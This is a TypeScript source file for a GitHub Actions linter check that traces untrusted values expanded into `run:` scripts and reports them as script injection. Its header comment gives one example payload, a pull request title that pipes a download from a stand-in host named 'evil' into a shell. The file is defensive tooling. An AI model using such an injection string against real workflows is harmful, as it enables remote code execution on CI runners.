/**
 * `${{ }}` is expanded into a `run:` script (or the script input of an action that evaluates it) before
 * the shell sees it, so a pull request title such as `"; curl evil | sh #` becomes code. Each expression
 * is parsed and traced to its sources (./workflow-taint.ts); the finding sits on the expression and says
 * where its value comes from and how sure that is.
 */
import type { BuiltinCheck } from './registry.js';
import { findInNode, offsetOf, rangeAt } from './text.js';
import { expressionsIn } from './workflow-steps.js';
import { WorkflowTaint, type TaintRules } from './workflow-taint.js';
import { linearRegExp } from '../linear-regexp.js';
import { workflowLanguage } from '../../workflow/load.js';
import type { CheckContext } from '../context.js';
import { TAINT_DEFAULTS } from './workflow-sources.js';

const patternList = { type: 'array', minItems: 1, items: { type: 'string', minLength: 1 } };

export const TAINT_PARAMS = {
  untrusted: patternList,
  objects: patternList,
  outputs: { type: 'object', additionalProperties: { type: 'array', items: { type: 'string', minLength: 1 } } },
};

export const taintRegexParams = (params: Record<string, unknown>) => [
  ...(params.untrusted as string[]).map((pattern, index) => ({ path: ['untrusted', index], pattern })),
  ...((params.objects as string[] | undefined) ?? []).map((pattern, index) => ({ path: ['objects', index], pattern })),
];

/** The taint rules of a check's parameters (untrusted, objects, outputs). */
export function taintRules(context: CheckContext): TaintRules {
  const params = context.params;
  return {
    sources: (params.untrusted as string[]).map((pattern) => linearRegExp(`^(?:${pattern})$`)),
    objects: ((params.objects as string[] | undefined) ?? []).map((pattern) => linearRegExp(`^(?:${pattern})$`)),
    outputs: (params.outputs as Record<string, string[]> | undefined) ?? {},
  };
}

export const workflowInjection: BuiltinCheck = {
  name: 'workflow-injection',
  scope: 'files',
  description: "Parses every `${{ }}` of `run:` scripts and of the `sinks` inputs of actions that evaluate them (actions/github-script's `script:`...) and traces its value to untrusted sources: the `untrusted` context paths (regular expressions over the lower-cased path, `*` for an index), whole `objects` that hold them, free-text inputs, and what carries them (env at every level, $GITHUB_ENV, step and job outputs, the `outputs` of the listed actions).",
  params: {
    type: 'object',
    additionalProperties: false,
    properties: { ...TAINT_PARAMS, sinks: { type: 'object', additionalProperties: { type: 'array', items: { type: 'string', minLength: 1 } } } },
  },
  defaults: { ...TAINT_DEFAULTS, sinks: {} },
  regexParams: taintRegexParams,
  run(context) {
    const rules = taintRules(context);
    const sinks = context.params.sinks as Record<string, string[]>;
    for (const file of context.files()) {
      context.tick(file.path);
      for (const doc of file.documents) {
        const taint = new WorkflowTaint(workflowLanguage(), file, doc, rules);
        taint.walk((scope) => {
          const { step } = scope;
          const scripts: Array<{ path: Array<string | number>; text: unknown }> = [{ path: [...step.path, 'run'], text: step.value.run }];
          const action = typeof step.value.uses === 'string' ? step.value.uses.trim().split('@')[0]!.toLowerCase() : '';
          const withs = step.value.with;
          for (const input of sinks[action] ?? []) {
            if (withs && typeof withs === 'object') scripts.push({ path: [...step.path, 'with', input], text: (withs as Record<string, unknown>)[input] });
          }
          for (const script of scripts) {
            if (typeof script.text !== 'string') continue;
            const node = doc.locate(script.path);
            const nodeStart = offsetOf(file, node.line, node.column);
            let searchFrom = 0;
            for (const expression of expressionsIn(script.text)) {
              context.tick();
              const found = taint.expression(expression.inner, scope);
              // Found in the source, the finding sits on the expression itself; otherwise on the script.
              const offset = findInNode(file, node, expression.whole, searchFrom);
              if (offset !== undefined) searchFrom = offset - nodeStart + expression.whole.length;
              if (!found) continue;
              const range = offset !== undefined ? rangeAt(file, offset, expression.whole.length) : node;
              context.report(file.path, range, `"${expression.whole}" is untrusted input expanded into a script (confidence: ${found.confidence}; from ${found.source}): pass it through env: and use "$VARIABLE"`);
            }
          }
        });
      }
    }
  },
};
